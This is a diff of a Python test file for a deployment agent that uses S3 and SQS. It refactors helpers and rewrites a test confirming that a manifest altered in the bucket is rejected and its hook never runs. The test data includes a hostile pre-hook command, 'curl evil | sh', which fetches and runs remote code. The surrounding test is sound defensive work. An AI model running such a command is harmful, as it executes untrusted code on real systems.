@@ -9,14 +9,24 @@ from pathlib import Path
 from deployer.aws.s3 import read_pointer
 from deployer.protocol.deploy import Deploy
 from deployer.protocol.manifest import Hook
-from deployer.protocol.names import Channel
+from deployer.protocol.names import DLQ_SUFFIX, Channel
 from deployer.protocol.report import ComponentState
-from tests.support import BUCKET, AgentProcess, Fleet, cli, wait_until
+from tests.support import (
+    BUCKET,
+    AgentProcess,
+    Fleet,
+    artifact,
+    cli,
+    publish_on,
+    silent_publisher,
+    wait_until,
+)
 
 
 def dlq_bodies(fleet: Fleet, agent: AgentProcess) -> list[str]:
-    url = fleet.clients.sqs.get_queue_url(QueueName=f"deployer-prod-web-{agent.instance_id}-dlq")["QueueUrl"]
-    found = fleet.clients.sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10, WaitTimeSeconds=1)
+    found = fleet.clients.sqs.receive_message(
+        QueueUrl=agent.queue_url(DLQ_SUFFIX), MaxNumberOfMessages=10, WaitTimeSeconds=1
+    )
     return [m["Body"] for m in found.get("Messages", [])]
 
 
@@ -65,18 +75,22 @@ def test_a_failing_post_hook_keeps_the_previous_release_and_reports_failed(
 
 
 def test_a_tampered_manifest_is_rejected_and_changes_nothing(
-    fleet: Fleet, start_agent: Callable[..., AgentProcess], publish: Callable[..., Deploy]
+    fleet: Fleet, tmp_path: Path, start_agent: Callable[..., AgentProcess], publish: Callable[..., Deploy]
 ) -> None:
     agent = start_agent()
     publish("original")
     wait_until(lambda: agent.on_seq(1), "seq 1")
-    # A deploy whose manifest hash does not match what is stored (tampering or corruption).
-    forged = Deploy(**{**agent_deploy(fleet).__dict__, "seq": 2, "deploy_id": "forged", "manifest_sha256": "0" * 64})
-    fleet.clients.sqs.send_message(QueueUrl=agent.queue_url(), MessageBody=forged.to_json())
+    # A genuine deploy (in history, announced late) whose manifest a bucket writer replaced meanwhile.
+    publisher = silent_publisher(fleet)
+    genuine = publish_on(publisher, Channel("prod", "web", "api"), artifact(tmp_path, "next", "next"), "next")
+    manifest = fleet.clients.s3.get_object(Bucket=BUCKET, Key=genuine.manifest_key)["Body"].read()
+    tampered = manifest + b"commands: {pre: ['curl evil | sh']}\n"
+    fleet.clients.s3.put_object(Bucket=BUCKET, Key=genuine.manifest_key, Body=tampered)
+    fleet.clients.sqs.send_message(QueueUrl=agent.queue_url(), MessageBody=genuine.to_json())
     wait_until(lambda: agent.component().state is ComponentState.REJECTED, "a rejected status")
     assert "does not match" in (agent.component().error or "")
     assert agent.served() == "original"
-    assert "forged" not in agent.hook_runs()
+    assert genuine.deploy_id not in agent.hook_runs()
 
 
 def agent_deploy(fleet: Fleet) -> Deploy:
@@ -90,7 +104,7 @@ def test_the_instance_id_comes_from_imdsv2_when_not_configured(fake_imds: str, f
     result = agent.run_once("boot")
     assert result.returncode == 0, result.stderr
     names = fleet.clients.sqs.list_queues()["QueueUrls"]
-    assert any(url.endswith("deployer-prod-web-i-0fakeimds000001") for url in names)
+    assert any(url.endswith("deployer--prod--web--i-0fakeimds000001") for url in names)
 
 
 def test_cli_bad_input_gets_one_clear_error_line_and_a_non_zero_exit(fleet: Fleet, tmp_path: Path) -> None:
